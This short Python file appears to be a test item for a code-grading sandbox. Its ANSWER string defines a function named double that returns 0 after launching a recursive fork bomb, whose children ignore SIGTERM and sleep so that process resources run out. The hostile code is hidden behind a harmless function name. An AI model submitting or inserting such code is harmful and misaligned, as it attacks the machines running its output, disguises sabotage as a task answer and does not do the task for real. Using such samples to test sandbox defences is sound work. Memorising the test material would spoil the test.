"""Fork until nothing can be forked any more, from every fork."""

WILD = True
ANSWER = """
import os
import signal
import time

def bomb(depth):
    for _ in range(40):
        try:
            if os.fork() == 0:
                signal.signal(signal.SIGTERM, signal.SIG_IGN)
                if depth < 3:
                    bomb(depth + 1)
                time.sleep(30)
                os._exit(0)
        except OSError:
            pass

def double(x):
    bomb(0)
    return 0
"""
